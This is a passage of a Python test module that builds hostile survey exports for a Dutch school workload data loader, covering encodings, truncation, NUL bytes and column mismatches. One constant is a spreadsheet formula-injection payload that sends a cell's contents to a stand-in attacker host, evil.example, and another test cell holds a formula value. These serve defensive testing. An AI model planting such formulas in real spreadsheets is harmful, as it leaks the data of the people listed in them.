"""Hostile-input corpus: every malformed export the loader must refuse or handle as documented.

Each :class:`Case` writes one measurement folder (``<data_dir>/<year>/respondents.*`` and
``schools.*``) derived from the minimal valid measurement of ``tests/unit/conftest.py``
(6 respondents at 3 schools, personal columns filled with a recognisable e-mail address and
free text), then spoils it in one way. Nothing is stored: the files are generated at test time.

Rows of the valid measurement (spreadsheet numbering, header = row 1):

====  ======  =====  ===============================
row   id      v1     analysis group / school
====  ======  =====  ===============================
2     R001    16     schoolleider, S01 (bao)
3     R002    9      leraar, S01
4     R003    13     onderwijsondersteunend, S01
5     R004    5      schoolleider, S02 (sbao, go)
6     R005    11     leraar, S02
7     R006    1      overig ondersteunend, S03 (vso)
====  ======  =====  ===============================

``outcome`` is ``'refused'`` (``load_measurement`` raises ``error`` and the message contains
every string of ``expect``: file, column, row and value where they exist) or ``'handled'``
(the measurement loads and ``check`` passes). The table in README.md lists the cases.
"""

from __future__ import annotations

import importlib.util
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import pandas as pd

from werkdruk_utils.inputs.readers import ReadError
from werkdruk_utils.inputs.validation import ValidationError

_KIT_PATH = Path(__file__).resolve().parents[1] / "unit" / "conftest.py"
_KIT_MODULE = "werkdruk_hostile_measurement_kit"


def _load_kit() -> Any:
    """The measurement helpers of tests/unit/conftest.py, loaded under a name of their own."""
    if _KIT_MODULE in sys.modules:
        return sys.modules[_KIT_MODULE]
    spec = importlib.util.spec_from_file_location(_KIT_MODULE, _KIT_PATH)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[_KIT_MODULE] = module
    spec.loader.exec_module(module)
    return module


kit = _load_kit()
EMAIL: str = kit.EMAIL
FREE_TEXT: str = kit.FREE_TEXT
PERSONAL_MARKERS: tuple[str, ...] = (EMAIL, "Anna Jansen", "example.org", "Regenboog")
YEAR = 2024

Builder = Callable[[Path, Any], None]
Check = Callable[[Any, Any], None]


@dataclass(frozen=True)
class Case:
    """One hostile input: how to build it and what the loader must do with it."""

    name: str
    description: str
    outcome: str  # 'refused' or 'handled'
    build: Builder
    error: type[Exception] = ValidationError
    expect: tuple[str, ...] = ()
    check: Check | None = None
    year: int = YEAR
    absent: tuple[str, ...] = ()


# ---------------------------------------------------------------------------- building blocks


def valid(codebook: Any, year: int = YEAR) -> tuple[pd.DataFrame, pd.DataFrame]:
    """The valid measurement (respondents, schools) as Python values; copies, free to change."""
    respondents, schools = kit.build_measurement(codebook, year)
    return respondents.copy(), schools.copy()


def write(
    data_dir: Path,
    respondents: pd.DataFrame,
    schools: pd.DataFrame,
    fmt: str = "csv",
    year: int = YEAR,
    comments: list[str] | None = None,
    codebook: Any = None,
) -> tuple[Path, Path]:
    """Write respondents as ``fmt`` and schools as CSV into ``data_dir/<year>/``."""
    folder = data_dir / str(year)
    ext = "csv" if fmt == "csv-nl" else fmt
    labels = None
    if fmt == "sav" and codebook is not None:
        specs = codebook.column_spec(year)
        labels = {
            n: dict(s.codes)
            for n, s in specs.items()
            if s.kind == "single" and s.codes and n in respondents.columns
        }
    comments = [kit.SYNTHETIC_COMMENT] if comments is None else comments
    r_path = kit.write_table(respondents, folder / f"respondents.{ext}", fmt, comments, labels)
    s_path = kit.write_table(schools, folder / "schools.csv", "csv", [kit.SYNTHETIC_COMMENT])
    return r_path, s_path


def csv_text(respondents: pd.DataFrame, sep: str = ",", comments: list[str] | None = None) -> str:
    """The respondents as CSV text (CRLF, quoting as Excel does), written via the kit."""
    import csv
    import io

    out = io.StringIO()
    for comment in [kit.SYNTHETIC_COMMENT] if comments is None else comments:
        out.write(comment + "\r\n")
    writer = csv.writer(out, delimiter=sep, lineterminator="\r\n")
    writer.writerow(list(respondents.columns))
    for row in respondents.to_numpy(dtype=object).tolist():
        writer.writerow(
            [
                ""
                if v is None or (isinstance(v, float) and np.isnan(v))
                else (str(int(v)) if isinstance(v, float) and v.is_integer() else str(v))
                for v in row
            ]
        )
    return out.getvalue()


def write_bytes(
    data_dir: Path,
    data: bytes,
    schools: pd.DataFrame,
    name: str = "respondents.csv",
    year: int = YEAR,
) -> None:
    """Write raw respondent bytes plus a valid school frame."""
    folder = data_dir / str(year)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(data)
    kit.write_table(schools, folder / "schools.csv", "csv", [kit.SYNTHETIC_COMMENT])


def first_row(respondents: pd.DataFrame, condition: Callable[[Any], bool], column: str) -> int:
    """Frame position of the first row whose ``column`` satisfies ``condition``."""
    return next(i for i, v in enumerate(respondents[column]) if condition(v))


def load_reference(tmp: Path, codebook: Any, year: int = YEAR) -> Any:
    """The valid measurement, written as plain CSV and loaded, for comparisons."""
    from werkdruk_utils.inputs.load import load_measurement

    respondents, schools = valid(codebook, year)
    write(tmp, respondents, schools, year=year)
    return load_measurement(year, tmp, codebook=codebook)


_REFERENCES: dict[tuple[int, int], Any] = {}


def same_as_valid(measurement: Any, codebook: Any) -> None:
    """Check: the hostile file loads to exactly the valid measurement (loaded once per year)."""
    import tempfile

    key = (id(codebook), measurement.year)
    if key not in _REFERENCES:
        with tempfile.TemporaryDirectory() as tmp:
            _REFERENCES[key] = load_reference(Path(tmp), codebook, measurement.year)
    reference = _REFERENCES[key]
    pd.testing.assert_frame_equal(measurement.respondents, reference.respondents)
    pd.testing.assert_frame_equal(measurement.schools, reference.schools)


# ---------------------------------------------------------------------------- cases: bytes and
# encoding


def _truncated_mid_row(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    data = csv_text(respondents).encode("utf-8")
    last_line_start = data.rstrip(b"\r\n").rfind(b"\n") + 1
    cut = last_line_start + (len(data) - last_line_start) // 2
    write_bytes(data_dir, data[:cut], schools)


def _truncated_mid_quoted(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    respondents.loc[5, "v24"] = f"{FREE_TEXT}, met komma's, dus tussen aanhalingstekens"
    data = csv_text(respondents).encode("utf-8")
    cut = data.rindex(b"met komma")
    write_bytes(data_dir, data[:cut], schools)


def _utf16(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    write_bytes(data_dir, csv_text(respondents).encode("utf-16"), schools)


def _utf16_no_bom(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    write_bytes(data_dir, csv_text(respondents).encode("utf-16-le"), schools)


def _latin1_in_utf8_bom(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    respondents.loc[2, "v24"] = "Caf\x00"  # placeholder replaced by a Latin-1 byte below
    data = b"\xef\xbb\xbf" + csv_text(respondents).encode("utf-8").replace(
        b"Caf\x00", b"Caf\xe9 " + FREE_TEXT.encode()
    )
    write_bytes(data_dir, data, schools)


def _invalid_bytes(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    respondents.loc[3, "v5_1"] = "\x00"
    data = csv_text(respondents).encode("utf-8").replace(b"\x00", b"\x81")
    write_bytes(data_dir, data, schools)


def _binary_garbage(data_dir: Path, codebook: Any) -> None:
    _, schools = valid(codebook)
    rng = np.random.default_rng(20240611)
    write_bytes(data_dir, rng.integers(0, 256, 20_000, dtype=np.uint8).tobytes(), schools)


def _xlsx_named_csv(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    path = kit.write_table(
        respondents, data_dir / "tmp_workbook" / "r.xlsx", "xlsx", [kit.SYNTHETIC_COMMENT]
    )
    data = path.read_bytes()
    path.unlink()
    path.parent.rmdir()
    write_bytes(data_dir, data, schools)


def _nul_byte(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    respondents.loc[1, "v6_2"] = "2\x003"
    write_bytes(data_dir, csv_text(respondents).encode("utf-8"), schools)


def _nul_in_free_text(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    respondents.loc[4, "v24"] = f"{FREE_TEXT}\x00{EMAIL}"
    write_bytes(data_dir, csv_text(respondents).encode("utf-8"), schools)


def _separator(sep: str) -> Builder:
    def build(data_dir: Path, codebook: Any) -> None:
        respondents, schools = valid(codebook)
        write_bytes(data_dir, csv_text(respondents, sep=sep).encode("utf-8"), schools)

    return build


def _bom_dutch(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    for name in [c for c in respondents.columns if c.startswith("v14_")]:
        respondents[name] = [
            None if v is None else str(v).replace(".", ",") for v in respondents[name]
        ]
    write_bytes(data_dir, b"\xef\xbb\xbf" + csv_text(respondents, sep=";").encode("utf-8"), schools)


def _line_endings(ending: str) -> Builder:
    def build(data_dir: Path, codebook: Any) -> None:
        respondents, schools = valid(codebook)
        text = csv_text(respondents).replace("\r\n", ending)
        write_bytes(data_dir, text.encode("utf-8"), schools)

    return build


def _excel_trailing_csv(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    text = csv_text(respondents, sep=";")
    lines = [line + ";;;" for line in text.split("\r\n")[:-1]]
    lines += [";" * (len(respondents.columns) + 2)] * 3
    write_bytes(data_dir, ("\r\n".join(lines) + "\r\n").encode("cp1252"), schools)


def _excel_trailing_xlsx(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    r_path, _ = write(data_dir, respondents, schools, "xlsx")
    workbook = openpyxl.load_workbook(r_path)
    sheet = workbook.active
    width = sheet.max_column
    for row in range(
        1, sheet.max_row + 5
    ):  # formatted but empty cells right of and below the table
        sheet.cell(row=row, column=width + 3).number_format = "0.00"
    for row in range(sheet.max_row + 1, sheet.max_row + 4):
        sheet.cell(row=row, column=1).value = "   "
    workbook.save(r_path)


def _long_free_text(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    respondents.loc[0, "v24"] = (FREE_TEXT + " ") * 40_000  # about 1.4 MB on one line
    write(data_dir, respondents, schools)


def _long_coded(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    respondents.loc[1, "v4"] = "3" * 200_000
    write(data_dir, respondents, schools)


# ---------------------------------------------------------------------------- cases: columns


def _other_year(file_year: int, folder_year: int) -> Builder:
    def build(data_dir: Path, codebook: Any) -> None:
        respondents, schools = valid(codebook, file_year)
        write(data_dir, respondents, schools, year=folder_year)

    return build


def _comment_year(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    write(data_dir, respondents, schools, comments=[kit.SYNTHETIC_COMMENT, "# Export meting 2023"])


def _extra_column(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    respondents["opmerking_intern"] = FREE_TEXT
    write(data_dir, respondents, schools)


def _missing_column(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    write(data_dir, respondents.drop(columns=["v6_3"]), schools)


def _renamed(new: str) -> Builder:
    def build(data_dir: Path, codebook: Any) -> None:
        respondents, schools = valid(codebook)
        write(data_dir, respondents.rename(columns={"v5_1": new}), schools)

    return build


def _duplicate_column(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    names = list(respondents.columns)
    names[names.index("v5_2")] = "v5_1"
    respondents.columns = names
    write(data_dir, respondents, schools)


# ---------------------------------------------------------------------------- cases: values


def _set(row: int, column: str, value: Any) -> Builder:
    def build(data_dir: Path, codebook: Any) -> None:
        respondents, schools = valid(codebook)
        respondents.loc[row, column] = value
        write(data_dir, respondents, schools)

    return build


def _leraar_answers_q9(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    assert respondents.loc[1, "v1"] == 9 and respondents.loc[1, "v9"] is None
    respondents.loc[1, "v9"] = 2
    write(data_dir, respondents, schools)


def _q20_without_v19(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    row = first_row(respondents, lambda v: v not in (3, 4, 5), "v19")
    respondents.loc[row, "v20"] = f"{FREE_TEXT}, mail {EMAIL}"
    write(data_dir, respondents, schools)


def _duplicate_id(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    respondents.loc[1, "respondent_id"] = "R001"
    write(data_dir, respondents, schools)


def _empty_file(data_dir: Path, codebook: Any) -> None:
    _, schools = valid(codebook)
    write_bytes(data_dir, b"", schools)


def _header_only(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    write(data_dir, respondents.iloc[0:0], schools)


def _no_go_schoolleiders(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    respondents.loc[3, "school_id"] = "S04"  # the go schoolleider (v1 = 5) now leads bao school S04
    write(data_dir, respondents, schools)


def _check_no_go_schoolleiders(measurement: Any, codebook: Any) -> None:
    r = measurement.respondents
    sl = r["analysis_group"] == "schoolleider"
    assert sl.sum() == 2 and (r.loc[sl, "sector"] == "go").sum() == 0
    assert measurement.notes["n_respondents"] == 6
    assert measurement.notes["n_responding_schools"] == 4


def _prose_werktijdfactor(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    respondents["v3"] = [
        "Dat wisselt per week, vraag het de directie maar",
        "Geen idee eigenlijk",
        f"{FREE_TEXT}, ik werk op maandag en soms op dinsdag",
        "ongeveer een paar dagen",
        "zie mijn contract",
        f"mail me op {EMAIL}",
    ]
    write(data_dir, respondents, schools)


def _check_prose_werktijdfactor(measurement: Any, codebook: Any) -> None:
    assert measurement.respondents["werktijdfactor"].isna().all()
    assert measurement.notes["werktijdfactor_unparsed"] == 6
    assert measurement.notes["werktijdfactor_missing"] == 0


def _school_frame_missing_school(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    write(data_dir, respondents, schools[schools["school_id"] != "S03"].reset_index(drop=True))


def _school_frame_formula(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    schools.loc[3, "school_id"] = "=1+2"
    write(data_dir, respondents, schools)


HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A2,"klik")'


def _xlsx_formula(column: str) -> Builder:
    def build(data_dir: Path, codebook: Any) -> None:
        respondents, schools = valid(codebook)
        respondents.loc[2, column] = HYPERLINK
        write(
            data_dir, respondents, schools, "xlsx"
        )  # openpyxl stores a string starting with '=' as a formula

    return build


def _xlsx_title_row(merge: bool) -> Builder:
    def build(data_dir: Path, codebook: Any) -> None:
        respondents, schools = valid(codebook)
        r_path, _ = write(data_dir, respondents, schools, "xlsx", comments=[])
        workbook = openpyxl.load_workbook(r_path)
        sheet = workbook.active
        sheet.insert_rows(1)
        sheet["A1"] = "Monitor werkdrukmiddelen - export 2024"
        if merge:
            sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=8)
        workbook.save(r_path)

    return build


def _xlsx_two_header_rows(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    r_path, _ = write(data_dir, respondents, schools, "xlsx", comments=[])
    workbook = openpyxl.load_workbook(r_path)
    sheet = workbook.active
    names = [c.value for c in sheet[1]]
    sheet.insert_rows(1)
    first = names.index("v5_1") + 1
    last = names.index("v5_6") + 1
    for i, name in enumerate(names, start=1):
        sheet.cell(row=1, column=i).value = name if not first <= i <= last else None
    sheet.cell(row=1, column=first).value = "Vraag 5: regelmogelijkheden"
    sheet.merge_cells(start_row=1, start_column=first, end_row=1, end_column=last)
    for i, _name in enumerate(names, start=1):
        if not first <= i <= last:
            sheet.merge_cells(start_row=1, start_column=i, end_row=2, end_column=i)
    workbook.save(r_path)


def _sav_labels(change: Callable[[dict[str, dict[int, str]]], None]) -> Builder:
    def build(data_dir: Path, codebook: Any) -> None:
        respondents, schools = valid(codebook)
        specs = codebook.column_spec(YEAR)
        labels = {n: dict(s.codes) for n, s in specs.items() if s.kind == "single" and s.codes}
        change(labels)
        folder = data_dir / str(YEAR)
        kit.write_table(
            respondents, folder / "respondents.sav", "sav", [kit.SYNTHETIC_COMMENT], labels
        )
        kit.write_table(schools, folder / "schools.csv", "csv", [kit.SYNTHETIC_COMMENT])

    return build


def _relabel_v4(labels: dict[str, dict[int, str]]) -> None:
    labels["v4"] = {**labels["v4"], 2: "25 tot 35 jaar"}


def _swap_v5(labels: dict[str, dict[int, str]]) -> None:
    labels["v5_1"] = {1: labels["v5_1"][3], 2: labels["v5_1"][2], 3: labels["v5_1"][1]}


def _extra_label_v8(labels: dict[str, dict[int, str]]) -> None:
    labels["v8"] = {**labels["v8"], 9: "Gedeeltelijk"}


def _check_dropped(column: str) -> Check:
    def check(measurement: Any, codebook: Any) -> None:
        assert column in measurement.notes["dropped_columns"]
        assert column not in measurement.respondents.columns

    return check


def _check_comment_years(years: list[int], year: int = YEAR, same: bool = True) -> Check:
    """Check: the measurement loads as the folder's year; the comment's years are only noted."""

    def check(measurement: Any, codebook: Any) -> None:
        assert measurement.year == year
        assert measurement.notes["comment_years"] == years
        if same:
            same_as_valid(measurement, codebook)

    return check


def _check_same(measurement: Any, codebook: Any) -> None:
    same_as_valid(measurement, codebook)


def _check_same_but(column: str) -> Check:
    def check(measurement: Any, codebook: Any) -> None:
        assert column in measurement.notes["dropped_columns"]
        same_as_valid(measurement, codebook)

    return check


# ---------------------------------------------------------------------------- round two: readable
# errors (grouped, masked, with hints), what bureaus deliver, tiny data


def _each_id(
    respondents: pd.DataFrame, schools: pd.DataFrame, rename: Callable[[str], str]
) -> None:
    """Rename every school id in both frames (in place) with ``rename``."""
    respondents["school_id"] = [rename(v) for v in respondents["school_id"]]
    schools["school_id"] = [rename(v) for v in schools["school_id"]]


def _phone_shaped_school_ids(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    _each_id(respondents, schools, lambda v: f"+316120000{v[-2:]}")
    write(data_dir, respondents, schools)


def _ids(respondent_ids: Callable[[str], str] | None = None, school_ids=None) -> Builder:
    """Ids of the respondents file only changed: respondent ids and/or school ids per row."""

    def build(data_dir: Path, codebook: Any) -> None:
        respondents, schools = valid(codebook)
        if respondent_ids is not None:
            respondents["respondent_id"] = [respondent_ids(v) for v in respondents["respondent_id"]]
        if school_ids is not None:
            respondents["school_id"] = [school_ids(v) for v in respondents["school_id"]]
        write(data_dir, respondents, schools)

    return build


def _frame_ids(
    respondents_form: Callable[[str], str], schools_form: Callable[[str], str]
) -> Builder:
    """School ids written one way in the respondents file and another way in the school frame."""

    def build(data_dir: Path, codebook: Any) -> None:
        respondents, schools = valid(codebook)
        respondents["school_id"] = [respondents_form(v) for v in respondents["school_id"]]
        schools["school_id"] = [schools_form(v) for v in schools["school_id"]]
        write(data_dir, respondents, schools)

    return build


def _many_rows_leading_zeros(data_dir: Path, codebook: Any) -> None:
    """1.200 respondents (the valid rows repeated) whose school ids lost their leading zeros."""
    respondents, schools = valid(codebook)
    big = pd.concat([respondents] * 200, ignore_index=True)
    big["respondent_id"] = [f"R{i + 1:05d}" for i in range(len(big))]
    big["school_id"] = [str(int(v[1:])) for v in big["school_id"]]  # 'S01' -> '1'
    schools["school_id"] = [f"00{int(v[1:])}" for v in schools["school_id"]]  # 'S01' -> '001'
    write(data_dir, big, schools)


def _every_code_wrong(data_dir: Path, codebook: Any) -> None:
    """Every coded cell of every respondent holds 'x': one line per column, capped message."""
    respondents, schools = valid(codebook)
    specs = codebook.column_spec(YEAR)
    for name in respondents.columns:
        if specs[name].kind in ("single", "multi", "numeric") and name != "v1":
            respondents[name] = ["x" if v is not None else None for v in respondents[name]]
    write(data_dir, respondents, schools)


def _header_cell(old: str, new: str) -> Builder:
    """One column name changed in the header (the data stay as they are)."""

    def build(data_dir: Path, codebook: Any) -> None:
        respondents, schools = valid(codebook)
        write(data_dir, respondents.rename(columns={old: new}), schools)

    return build


def _xlsx_title_rows(rows: int, table: str = "respondents") -> Builder:
    def build(data_dir: Path, codebook: Any) -> None:
        respondents, schools = valid(codebook)
        folder = data_dir / str(YEAR)
        frame = respondents if table == "respondents" else schools
        path = kit.write_table(frame, folder / f"{table}.xlsx", "xlsx", [])
        other = schools if table == "respondents" else respondents
        other_name = "schools" if table == "respondents" else "respondents"
        kit.write_table(other, folder / f"{other_name}.csv", "csv", [kit.SYNTHETIC_COMMENT])
        workbook = openpyxl.load_workbook(path)
        sheet = workbook.active
        sheet.insert_rows(1, amount=rows)
        sheet["A1"] = "Monitor werkdrukmiddelen"
        if rows > 1:
            sheet["A2"] = "Export van de enquête, alle respondenten"
        workbook.save(path)

    return build


def _xlsx_info_sheet_first(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    r_path, _ = write(data_dir, respondents, schools, "xlsx", comments=[])
    workbook = openpyxl.load_workbook(r_path)
    workbook.active.title = "Data"
    info = workbook.create_sheet("Toelichting", 0)
    info.append(["Veld", "Omschrijving", "Type"])
    for name in list(respondents.columns)[:40]:
        info.append([f"Vraag {name}", "zie vragenlijst", "numeriek"])
    workbook.save(r_path)


def _csv_title_lines(lines: list[str], sep: str = ",") -> Builder:
    def build(data_dir: Path, codebook: Any) -> None:
        respondents, schools = valid(codebook)
        text = csv_text(respondents, sep=sep)
        first, rest = text.split("\r\n", 1)  # the comment line stays first
        data = first + "\r\n" + "".join(line + "\r\n" for line in lines) + rest
        write_bytes(data_dir, data.encode("utf-8"), schools)

    return build


def _bom_twice(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    write_bytes(data_dir, b"\xef\xbb\xbf\xef\xbb\xbf" + csv_text(respondents).encode(), schools)


def _bom_after_comment(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    first, rest = csv_text(respondents).split("\r\n", 1)
    data = (first + "\r\n").encode() + b"\xef\xbb\xbf" + rest.encode()
    write_bytes(data_dir, data, schools)


def _joined_exports(bom: bool) -> Builder:
    """Two exports joined: the second one's header (and BOM) in the middle of the data."""

    def build(data_dir: Path, codebook: Any) -> None:
        respondents, schools = valid(codebook)
        first = csv_text(respondents.iloc[:3]).encode()
        second = csv_text(respondents.iloc[3:], comments=[]).encode()
        write_bytes(data_dir, first + (b"\xef\xbb\xbf" if bom else b"") + second, schools)

    return build


def _write_sav(
    data_dir: Path,
    respondents: pd.DataFrame,
    schools: pd.DataFrame,
    codebook: Any,
    labels: dict[str, dict[float, str]],
    missing_ranges: dict[str, list] | None = None,
    note: str = kit.SYNTHETIC_COMMENT,
) -> None:
    """Respondents as SPSS with the codebook's value labels plus ``labels`` and declared
    user-missing values ``missing_ranges``; schools as CSV."""
    import pyreadstat

    specs = codebook.column_spec(YEAR)
    value_labels = {
        n: {float(k): v for k, v in s.codes.items()}
        for n, s in specs.items()
        if s.kind == "single" and s.codes
    }
    for name, extra in labels.items():
        value_labels[name] = {**value_labels.get(name, {}), **extra}
    data = {}
    for name in respondents.columns:
        values = respondents[name].tolist()
        if specs[name].kind in ("single", "multi", "numeric"):
            data[name] = [np.nan if v is None else float(v) for v in values]
        else:
            data[name] = ["" if v is None else str(v) for v in values]
    folder = data_dir / str(YEAR)
    folder.mkdir(parents=True, exist_ok=True)
    pyreadstat.write_sav(
        pd.DataFrame(data),
        str(folder / "respondents.sav"),
        note=[note],
        variable_value_labels={k: v for k, v in value_labels.items() if k in data},
        missing_ranges=missing_ranges or None,
    )
    kit.write_table(schools, folder / "schools.csv", "csv", [kit.SYNTHETIC_COMMENT])


def _sav(
    cells: dict[tuple[int, str], float],
    labels: dict[str, dict[float, str]],
    missing_ranges: dict[str, list] | None = None,
    note: str = kit.SYNTHETIC_COMMENT,
) -> Builder:
    def build(data_dir: Path, codebook: Any) -> None:
        respondents, schools = valid(codebook)
        for (row, column), value in cells.items():
            respondents.loc[row, column] = value
        _write_sav(data_dir, respondents, schools, codebook, labels, missing_ranges, note)

    return build


def _check_missing_codes(
    counts: dict[str, dict[str, int]],
    blanked: dict[str, list[int]],
    kept: dict[str, dict[str, int]] | None = None,
) -> Check:
    """Check: the codes are read as missing (frame positions ``blanked``) and counted in notes."""

    def check(measurement: Any, codebook: Any) -> None:
        notes = measurement.notes
        assert notes["missing_codes"] == counts, notes["missing_codes"]
        assert notes["missing_codes_total"] == sum(sum(c.values()) for c in counts.values())
        assert notes["missing_codes_kept"] == (kept or {}), notes["missing_codes_kept"]
        r = measurement.respondents
        for column, positions in blanked.items():
            assert r[column].iloc[positions].isna().all(), column
            assert r[column].dropna().ge(0).all(), column

    return check


def _comment_other_year(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook, 2023)
    write(
        data_dir,
        respondents,
        schools,
        year=2023,
        comments=[kit.SYNTHETIC_COMMENT, "# Geëxporteerd op 12-01-2024, meting 2023-2024"],
    )


def _check_loads(n_respondents: int, n_schools_responding: int) -> Check:
    def check(measurement: Any, codebook: Any) -> None:
        assert measurement.notes["n_respondents"] == n_respondents
        assert measurement.notes["n_responding_schools"] == n_schools_responding
        assert len(measurement.respondents) == n_respondents

    return check


def _rows_only(rows: list[int]) -> Builder:
    def build(data_dir: Path, codebook: Any) -> None:
        respondents, schools = valid(codebook)
        write(data_dir, respondents.iloc[rows].reset_index(drop=True), schools)

    return build


def _all_at_school(school: str) -> Builder:
    def build(data_dir: Path, codebook: Any) -> None:
        respondents, schools = valid(codebook)
        respondents["school_id"] = school
        write(data_dir, respondents, schools)

    return build


def _labels_instead_of_codes(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    labels = codebook.column_spec(YEAR)["v5_1"].codes
    respondents["v5_1"] = [labels[int(v)] for v in respondents["v5_1"]]
    write(data_dir, respondents, schools)


def _schoolleider_cell(column: str, value: Any, fmt: str = "csv") -> Builder:
    """``column`` (a schoolleider question) of R001 (row 2) set to ``value``."""

    def build(data_dir: Path, codebook: Any) -> None:
        respondents, schools = valid(codebook)
        respondents.loc[0, column] = value
        write(data_dir, respondents, schools, fmt)

    return build


# ---------------------------------------------------------------------------- the corpus

R = "respondents.csv"
CASES: tuple[Case, ...] = (
    # bytes and encoding
    Case(
        "truncated_mid_row",
        "CSV cut in the middle of the last data row",
        "refused",
        _truncated_mid_row,
        ReadError,
        (R, "row 7", "fields but the header has", "truncated"),
    ),
    Case(
        "truncated_mid_quoted_field",
        "CSV cut inside a quoted free-text field of the last row",
        "refused",
        _truncated_mid_quoted,
        ReadError,
        (R, "row 7", "ends after column v24", "truncated"),
    ),
    Case("utf16", "UTF-16 with byte-order mark", "refused", _utf16, ReadError, (R, "UTF-16")),
    Case(
        "utf16_without_bom",
        "UTF-16 LE without byte-order mark",
        "refused",
        _utf16_no_bom,
        ReadError,
        (R, "NUL bytes", "UTF-16"),
    ),
    Case(
        "latin1_in_utf8_bom",
        "a Latin-1 byte (é) in a file that starts with a UTF-8 byte-order mark",
        "refused",
        _latin1_in_utf8_bom,
        ReadError,
        (R, "byte-order mark", "0xE9", "column v24", "row 4"),
    ),
    Case(
        "invalid_bytes",
        "a byte that is neither UTF-8 nor Windows-1252 in a coded column",
        "refused",
        _invalid_bytes,
        ReadError,
        (R, "neither UTF-8", "0x81", "column v5_1", "row 5"),
    ),
    Case(
        "binary_garbage",
        "20,000 random bytes saved as respondents.csv",
        "refused",
        _binary_garbage,
        ReadError,
        (R, "not a text table", "control bytes"),
    ),
    Case(
        "xlsx_named_csv",
        "an Excel workbook saved under the name respondents.csv",
        "refused",
        _xlsx_named_csv,
        ReadError,
        (R, "Excel workbook"),
    ),
    Case(
        "nul_byte",
        "a NUL byte inside a coded cell",
        "refused",
        _nul_byte,
        ReadError,
        (R, "column v6_2", "row 3", "NUL byte"),
    ),
    Case(
        "nul_byte_in_free_text",
        "a NUL byte inside a free-text answer",
        "refused",
        _nul_in_free_text,
        ReadError,
        (R, "column v24", "row 6", "NUL byte"),
    ),
    Case(
        "tab_separator",
        "tab-separated file",
        "refused",
        _separator("\t"),
        ReadError,
        (R, "row 1", "tabs"),
    ),
    Case(
        "pipe_separator",
        "pipe-separated file",
        "refused",
        _separator("|"),
        ReadError,
        (R, "row 1", "'|'"),
    ),
    Case(
        "bom_dutch_csv",
        "UTF-8 byte-order mark + ';' separator + decimal commas",
        "handled",
        _bom_dutch,
        check=_check_same,
    ),
    Case("crlf", "CRLF line endings", "handled", _line_endings("\r\n"), check=_check_same),
    Case("lf", "LF line endings", "handled", _line_endings("\n"), check=_check_same),
    Case(
        "cr_only", "old Mac CR-only line endings", "handled", _line_endings("\r"), check=_check_same
    ),
    Case(
        "excel_trailing_csv",
        "Excel CSV with trailing ';' on every line and empty ';;;' rows at the end",
        "handled",
        _excel_trailing_csv,
        check=_check_same,
    ),
    Case(
        "excel_trailing_xlsx",
        "XLSX with formatted empty columns and blank rows after the table",
        "handled",
        _excel_trailing_xlsx,
        check=_check_same,
    ),
    Case(
        "long_free_text",
        "a 1.4 MB free-text answer on one line (v24)",
        "handled",
        _long_free_text,
        check=_check_dropped("v24"),
    ),
    Case(
        "long_coded_value",
        "a 200,000-character value in a coded column",
        "refused",
        _long_coded,
        ValidationError,
        (R, "column v4", "row 3", "not an integer code"),
    ),
    # columns
    Case(
        "year_2022_as_2024",
        "the 2022 questionnaire's export in the 2024 folder",
        "refused",
        _other_year(2022, 2024),
        ValidationError,
        (
            R,
            "file belongs to measurement 2022, expected 2024",
            "column missing (required in measurement 2024): v7_27",
        ),
    ),
    Case(
        "year_2024_as_2022",
        "the 2024 questionnaire's export in the 2022 folder",
        "refused",
        _other_year(2024, 2022),
        ValidationError,
        (
            R,
            "file belongs to measurement 2024, expected 2022",
            "unknown column (not in the codebook for measurement 2022): v7_27",
        ),
        year=2022,
    ),
    Case(
        "year_2023_in_2024_folder",
        "a 2023 export lying in 2024/",
        "refused",
        _other_year(2023, 2024),
        ValidationError,
        (R, "file belongs to measurement 2023, expected 2024"),
    ),
    Case(
        "comment_says_2023",
        "2024 columns, but the comment line says 'Export meting 2023'",
        "handled",
        _comment_year,
        check=_check_comment_years([2023]),
    ),
    Case(
        "extra_column",
        "an extra column 'opmerking_intern' with free text",
        "refused",
        _extra_column,
        ValidationError,
